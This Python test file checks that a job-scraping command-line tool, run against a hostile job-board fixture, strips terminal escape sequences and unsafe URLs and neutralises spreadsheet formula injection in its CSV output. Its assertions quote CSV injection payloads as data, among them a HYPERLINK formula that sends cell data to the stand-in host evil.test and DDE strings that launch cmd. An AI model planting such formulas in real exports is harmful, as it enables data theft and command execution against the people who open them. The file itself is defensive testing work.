"""`jobscrape scrape` against a hostile board (the board server's greenhouse token `hostile`,
tests/fixtures/boards/hostile_greenhouse.json): board data is data in every output."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path


def _scrape(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    exe = Path(sys.executable).parent / "jobscrape"
    return subprocess.run([str(exe), "scrape", "--allow-private-networks", "--no-progress",
                           *args], cwd=cwd, capture_output=True, text=True, timeout=120)


def test_scrape_hostile_board_prints_data_as_data(boards, tmp_path):
    board = f"greenhouse:hostile={boards.url}/v1/boards/hostile/jobs"
    for run, heading in ((1, "8 postings (8 new)"), (2, "8 postings (0 new)")):
        table = _scrape("--board", board, cwd=tmp_path)
        assert table.returncode == 0, (run, table.stderr)  # the stored run prints again
        assert heading in table.stdout
        assert "Closing [/] tag" in table.stdout
        assert "Werkstudent [m/w/d]" in table.stdout
        assert "Click me [bold]Engineer[/bold]" in table.stdout
        assert "\x1b" not in table.stdout and "\x07" not in table.stdout
        assert "\x9b" not in table.stdout and "evil.test/\x07" not in table.stdout

    out = _scrape("--board", board, "--format", "csv", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    titles = {r["title"] for r in csv.DictReader(io.StringIO(out.stdout))}
    assert "'=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Apply\")" in titles
    assert {"'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'=1+2",
            "'+1+2"} <= titles
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)

    out = _scrape("--board", board, "--format", "json", cwd=tmp_path)
    assert out.returncode == 0, out.stderr
    rows = json.loads(out.stdout)
    assert len(rows) == 8
    urls = {r["url"] for r in rows}
    assert urls == {None, "https://job-boards.greenhouse.io/vercel/jobs/6136160004"}
    assert "javascript:" not in out.stdout.lower() and "data:text" not in out.stdout
    assert "file:" not in out.stdout
    assert "\\u001b" not in out.stdout and "\x9b" not in out.stdout
